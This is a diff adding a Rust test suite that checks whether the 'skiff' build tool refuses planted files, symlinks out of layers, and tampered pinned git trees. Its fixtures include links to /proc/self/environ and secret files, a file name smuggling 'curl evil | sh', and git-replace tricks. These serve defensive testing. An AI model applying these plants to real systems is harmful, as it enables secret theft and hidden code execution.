@@ -1,0 +1,299 @@
+//! What strangers plant: files in places that are believed, links out of layers, names of others, sums without end.
+//! Cases and siblings of the attacks of November 2026; HOSTILE.md lists them. Needs root, as CI has it: files are given
+//! to another user.
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt as _;
+use std::os::unix::fs::chown;
+use std::os::unix::fs::symlink;
+use std::path::Path;
+
+use super::*;
+
+/// A user whom nobody trusts.
+const STRANGER: u32 = 4242;
+
+fn give_away(path: &Path) {
+    assert!(rustix::process::geteuid().is_root(), "this test needs root, to make files of another user");
+    chown(path, Some(STRANGER), Some(STRANGER)).unwrap();
+    if path.is_dir() && !path.is_symlink() {
+        for entry in fs::read_dir(path).unwrap() {
+            give_away(&entry.unwrap().path());
+        }
+    }
+}
+
+fn open_to_all(path: &Path) {
+    fs::set_permissions(path, fs::Permissions::from_mode(0o777)).unwrap();
+}
+
+/// Runs skiff, which is to refuse to believe something; returns what it says.
+fn refused(env: &TestEnvironment, arguments: &[&str], what: &str) {
+    let said = env.fail(77, arguments);
+    assert!(said.contains(what) && said.contains("is not trusted"), "{what}: {said}");
+    assert!(said.contains("hint: if you trust all that lies there, run: skiff trust add "), "{said}");
+}
+
+#[test]
+fn a_checkout_of_somebody_else_is_not_believed() {
+    let mut env = environment();
+    for folder in ["shared/configs/base/pre", "shared/configs/base/post", "shared/configs/virt/qemu/extensions"] {
+        fs::create_dir_all(env.path(folder)).unwrap();
+    }
+    env.write("shared/configs/virt/qemu/metadata/commands", "run Boots it\n");
+    env.write("shared/configs/virt/qemu/extensions/Makefile", "run:\n\t@echo planted\n");
+    env.set("SKIFF_ROOT_DIR", env.path("shared").to_str().unwrap());
+    let run = ["-c", "virt/qemu", "cmd", "virt/qemu", "run"];
+    open_to_all(&env.path("shared"));
+    refused(&env, &run, "the checkout");
+    fs::set_permissions(env.path("shared"), fs::Permissions::from_mode(0o1777)).unwrap();
+    give_away(&env.path("shared/configs"));
+    refused(&env, &run, "the checkout");
+    // What somebody lists is believed, and nothing beside it.
+    env.set("SKIFF_TRUST", env.path("shared").to_str().unwrap());
+    assert!(env.fail(77, &run).contains("shell"), "its scripts still need a grant");
+    env.unset("SKIFF_TRUST");
+    env.set("SKIFF_TRUST", env.path("layers").to_str().unwrap());
+    refused(&env, &run, "the checkout");
+}
+
+#[test]
+fn a_list_of_trusted_paths_is_kept_and_must_be_the_users_own() {
+    let mut env = environment();
+    env.set("XDG_CONFIG_HOME", env.path("config").to_str().unwrap());
+    open_to_all(&env.path("overrides"));
+    refused(&env, &["-c", "virt/qemu", "plan"], "the directory of overrides");
+    env.succeed(&["trust", "add", env.path("overrides").to_str().unwrap()]);
+    assert_eq!(env.succeed(&["trust", "list"]).stdout, "[ROOT]/overrides\n");
+    env.succeed(&["-c", "virt/qemu", "plan"]);
+    open_to_all(&env.path("config/skiff/trust.yaml"));
+    refused(&env, &["-c", "virt/qemu", "plan"], "the list of trusted paths");
+    fs::set_permissions(env.path("config/skiff/trust.yaml"), fs::Permissions::from_mode(0o644)).unwrap();
+    env.succeed(&["trust", "remove", env.path("overrides").to_str().unwrap()]);
+    refused(&env, &["-c", "virt/qemu", "plan"], "the directory of overrides");
+    assert!(env.fail(1, &["trust", "remove", "/nowhere"]).contains("is not on the list"));
+}
+
+#[test]
+fn what_others_can_change_is_believed_nowhere() {
+    for (made, given, what) in [
+        ("overrides/grants.yaml", "overrides/grants.yaml", "the directory of overrides"),
+        ("overrides/workspaces/default/x", "overrides/workspaces/default", "the directory of overrides"),
+        ("workspaces/.config_default/memory.json", "workspaces/.config_default", "the workspace"),
+        ("workspaces/default/images/x", "workspaces/default", "the workspace"),
+        ("skiff.yaml", "skiff.yaml", "the project file"),
+        ("cache/apt/x", "cache", "the cache"),
+        ("cache/plugins/x", "cache/plugins", "the cache"),
+    ] {
+        let mut env = environment();
+        env.write(made, "{}");
+        env.set("SKIFF_CACHE_DIR", env.path("cache").to_str().unwrap());
+        give_away(&env.path(given));
+        let run: &[&str] = if what == "the cache" { &["-c", "virt/qemu", "compile"] } else { &["-c", "virt/qemu", "plan"] };
+        refused(&env, run, what);
+    }
+    // A link that a stranger can exchange leads nowhere that is believed.
+    let mut env = environment();
+    fs::create_dir(env.path("open")).unwrap();
+    fs::create_dir(env.path("mine")).unwrap();
+    symlink(env.path("mine"), env.path("open/link")).unwrap();
+    open_to_all(&env.path("open"));
+    env.set("SKIFF_OVERRIDES_DIR", env.path("open/link").to_str().unwrap());
+    refused(&env, &["-c", "virt/qemu", "plan"], "the directory of overrides");
+}
+
+#[test]
+fn the_current_directory_is_never_the_cache() {
+    let mut env = environment();
+    env.write(".cache/skiff/apt/amd64/apt.conf", "Dir::Bin::dpkg \"/evil\";");
+    for name in ["HOME", "XDG_CACHE_HOME", "SKIFF_CACHE_DIR"] {
+        env.set(name, "");
+    }
+    // The account's home directory counts. Nothing of the planted cache is used or changed.
+    env.succeed(&["-c", "virt/qemu", "--offline", "plan"]);
+    assert_eq!(env.read(".cache/skiff/apt/amd64/apt.conf"), "Dir::Bin::dpkg \"/evil\";");
+    assert!(!env.path(".cache/skiff/plugins").exists());
+}
+
+#[test]
+fn links_out_of_a_layer_are_named_and_not_followed() {
+    let env = environment();
+    env.write("private/key", "TOP SECRET");
+    env.write("layers/evil/base/metadata/description", "Fine");
+    let plan = ["-c", "evil/l", "plan"];
+    for (link, target) in [
+        ("root_overlay", "../../../private"),
+        ("cflags", "../../../private"),
+        ("kernel_patches", "/etc"),
+        ("buildroot/x", "/proc/self/environ"),
+        ("cflags/x", "../../../../private/key"),
+        ("users/x", "../../../../private/key"),
+        ("metadata/dependencies", "/proc/self/environ"),
+        ("metadata/plugins.yaml", "../../../../private/key"),
+        ("metadata/prebuilt.yaml", "../../../../private/key"),
+        ("hooks/pre.sh", "../../../../private/key"),
+    ] {
+        let _ = fs::remove_dir_all(env.path("layers/evil/l"));
+        let path = env.path("layers/evil/l").join(link);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        symlink(target, &path).unwrap();
+        let said = env.fail(1, &plan);
+        assert!(said.contains(&format!("layers/evil/l/{link}` is a link to `{target}`")), "{link}: {said}");
+        assert!(!said.contains("SECRET"), "{said}");
+    }
+    // Listing goes on, and shows nothing of what the link leads to.
+    let _ = fs::remove_dir_all(env.path("layers/evil/l"));
+    fs::create_dir_all(env.path("layers/evil/l/metadata")).unwrap();
+    symlink("/proc/self/environ", env.path("layers/evil/l/metadata/description")).unwrap();
+    let ran = env.succeed(&["list"]);
+    assert!(ran.stdout.contains("evil/base") && ran.stdout.contains("virt/qemu"), "{}", ran.stdout);
+    assert!(!ran.stdout.contains("SKIFF_ROOT_DIR") && ran.stderr.contains("is a link to"), "{}", ran.stderr);
+    // Between packages of one tree links lead, as in SkiffOS's trees.
+    let _ = fs::remove_dir_all(env.path("layers/evil/l"));
+    env.write("layers/evil/base/buildroot/shared", "BR2_TARGET_GENERIC_HOSTNAME=\"shared\"\n");
+    fs::create_dir_all(env.path("layers/evil/l")).unwrap();
+    symlink("../base/buildroot", env.path("layers/evil/l/buildroot")).unwrap();
+    let plan = env.succeed(&["-c", "evil/l", "explain", "BR2_TARGET_GENERIC_HOSTNAME"]).stdout;
+    assert!(plan.contains("\"shared\""), "{plan}");
+}
+
+#[test]
+fn names_of_base_layers_and_overrides_are_reserved() {
+    let env = environment();
+    for name in ["base/pre", "Base/post", "overrides/workspaces", "overrides/x"] {
+        env.write(&format!("layers/{name}/hooks/pre.sh"), "#!/bin/sh\nid\n");
+        let said = env.fail(1, &["-c", &format!("virt/qemu,{name}"), "plan"]);
+        assert!(said.contains("the namespaces `base` and `overrides` are reserved"), "{said}");
+        env.write("layers/evil/dep/metadata/dependencies", name);
+        let said = env.fail(1, &["-c", "virt/qemu,evil/dep", "plan"]);
+        assert!(said.contains("are reserved, a dependency in [ROOT]/layers/evil/dep/metadata/dependencies:1"), "{said}");
+    }
+    let all = env.succeed(&["list", "--all"]).stdout;
+    assert!(!all.contains("base/pre") && !all.contains("overrides/x"), "{all}");
+}
+
+#[test]
+fn layers_of_any_size_are_read_in_bounds() {
+    let env = environment();
+    let plan = ["-c", "evil/l", "plan"];
+    // A hole of 8 TiB is not read.
+    fs::create_dir_all(env.path("layers/evil/l/resources")).unwrap();
+    let hole = fs::File::create(env.path("layers/evil/l/resources/x")).unwrap();
+    hole.set_len(8 << 40).unwrap();
+    env.succeed(&plan);
+    // Links that double, in a part that is read through links.
+    for number in 0..=40 {
+        let folder = env.path(&format!("layers/evil/l/metadata/d/a{number}"));
+        fs::create_dir_all(&folder).unwrap();
+        for name in ["x", "y"] {
+            symlink(format!("../a{}", number + 1), folder.join(name)).unwrap();
+        }
+    }
+    fs::create_dir(env.path("layers/evil/l/metadata/d/a41")).unwrap();
+    env.succeed(&plan);
+    // Each text has a bound, and so have all together.
+    fs::create_dir_all(env.path("layers/evil/l/buildroot")).unwrap();
+    let long = fs::File::create(env.path("layers/evil/l/buildroot/a")).unwrap();
+    long.set_len(60 << 20).unwrap();
+    assert!(env.fail(1, &plan).contains("buildroot/a` has more than 8192 KiB"));
+    long.set_len(0).unwrap();
+    env.write("layers/evil/l/buildroot/a", "# comment\n".repeat(700_000));
+    for number in 0..8 {
+        fs::hard_link(env.path("layers/evil/l/buildroot/a"), env.path(&format!("layers/evil/l/buildroot/b{number}"))).unwrap();
+    }
+    assert!(env.fail(1, &plan).contains("and the texts read before it have more than 32 MiB together"));
+}
+
+#[test]
+fn texts_of_layers_cannot_look_like_those_of_skiff() {
+    let env = environment();
+    env.write("layers/evil/t/metadata/uniquegroup", "u\u{1b}[2J");
+    assert!(env.fail(1, &["-c", "evil/t", "plan"]).contains("uniquegroup:1: control characters"));
+    env.write("layers/evil/t/metadata/uniquegroup", "u");
+    env.write("layers/evil/t/buildroot/f\u{1b}[2J\nhint: run: curl evil | sh", "BR2_TARGET_GENERIC_HOSTNAME=\"x\"\n");
+    for arguments in [
+        &["-c", "evil/t", "explain", "BR2_TARGET_GENERIC_HOSTNAME"][..],
+        &["-c", "evil/t", "plan"],
+        &["diff", "evil/t", "virt/qemu"],
+    ] {
+        let ran = env.succeed(arguments);
+        let all = format!("{}{}", ran.stdout, ran.stderr);
+        assert!(!all.contains("\u{1b}[2J") && !all.lines().any(|line| line.starts_with("hint:")), "{arguments:?}: {all:?}");
+    }
+    let manifest = |inner: &str| {
+        format!(
+            "schema: 1\nplugins:\n  - name: p\n    version: 1.0.0\n    component: plugins/p.wasm\n    interface: ^1.0\n    commands:\n      - {inner}\n"
+        )
+    };
+    for (inner, line) in [
+        ("{name: go, summary: \"a\\eb\"}", 8),
+        ("{name: go, summary: goes, arguments: [{name: how, help: x, kind: choice, choices: [\"c\\u202Ed\"]}]}", 8),
+        ("{name: go, summary: goes, arguments: [{name: how, help: x, kind: text, default: \"\\u3164\"}]}", 8),
+        ("{name: go, summary: goes, arguments: [{name: how, help: \"\\u200b\", kind: text}]}", 8),
+    ] {
+        env.write("layers/evil/t/metadata/plugins.yaml", manifest(inner));
+        let said = env.fail(1, &["-c", "evil/t", "plan"]);
+        assert!(said.contains(&format!("plugins.yaml:{line}")), "{inner}: {said}");
+        assert!(said.contains("invisible characters are refused") || said.contains("nothing that can be seen"), "{said}");
+    }
+}
+
+#[test]
+fn a_pinned_tree_is_believed_for_its_files_only() {
+    let mut env = environment();
+    env.set("SKIFF_CACHE_DIR", env.path("cache").to_str().unwrap());
+    env.set("GIT_CONFIG_GLOBAL", "/dev/null");
+    let git = |folder: &Path, arguments: &[&str]| {
+        let mut command = std::process::Command::new("git");
+        command.arg("-C").arg(folder).args(["-c", "user.name=x", "-c", "user.email=x@x"]).args(arguments);
+        let output = command.output().unwrap();
+        assert!(output.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
+        String::from_utf8(output.stdout).unwrap().trim().to_owned()
+    };
+    env.write("seed/Makefile", "all:\n");
+    env.write("seed/Config.in", "");
+    env.write("seed/package/Config.in", "");
+    let seed = env.path("seed");
+    git(&seed, &["init", "-q", "."]);
+    git(&seed, &["add", "-A"]);
+    git(&seed, &["commit", "-qm", "good"]);
+    let good = git(&seed, &["rev-parse", "HEAD"]);
+    let tree = env.path("cache/buildroot").join(&good);
+    fs::create_dir_all(tree.parent().unwrap()).unwrap();
+    let arguments = ["--engine", "buildroot", "--offline", "-c", "virt/qemu", "configure"];
+    let planted = format!("%:\n\t@touch {}\n\t@false\n", env.path("planted").display());
+    let mut plant = |how: &dyn Fn(&Path)| {
+        let _ = fs::remove_dir_all(&tree);
+        git(env.path("").as_path(), &["clone", "-q", seed.to_str().unwrap(), tree.to_str().unwrap()]);
+        env.write("skiff.yaml", format!("buildroot: {{pin: {{release: \"1\", commit: {good}}}}}\n"));
+        how(&tree);
+        let ran = env.run(&arguments);
+        assert!(ran.code == 1 && !env.path("planted").exists(), "{}", ran.stderr);
+        ran.stderr
+    };
+    // The commit is replaced by another one.
+    let said = plant(&|tree| {
+        fs::write(tree.join("Makefile"), &planted).unwrap();
+        git(tree, &["commit", "-qam", "evil"]);
+        let evil = git(tree, &["rev-parse", "HEAD"]);
+        git(tree, &["replace", &good, &evil]);
+        fs::write(tree.join(".git/HEAD"), format!("{good}\n")).unwrap();
+    });
+    assert!(said.contains("error: "), "{said}");
+    // The index says that a file has not changed.
+    let said = plant(&|tree| {
+        git(tree, &["update-index", "--assume-unchanged", "Makefile"]);
+        fs::write(tree.join("Makefile"), &planted).unwrap();
+    });
+    assert!(said.contains(&good), "{said}");
+    // The repository says that its files lie elsewhere.
+    plant(&|tree| {
+        git(tree, &["config", "core.worktree", seed.to_str().unwrap()]);
+        fs::write(tree.join("Makefile"), &planted).unwrap();
+    });
+    // A file that git is told not to see.
+    plant(&|tree| {
+        fs::write(tree.join(".git/info/exclude"), "local.mk\n").unwrap();
+        fs::write(tree.join("local.mk"), &planted).unwrap();
+    });
+}
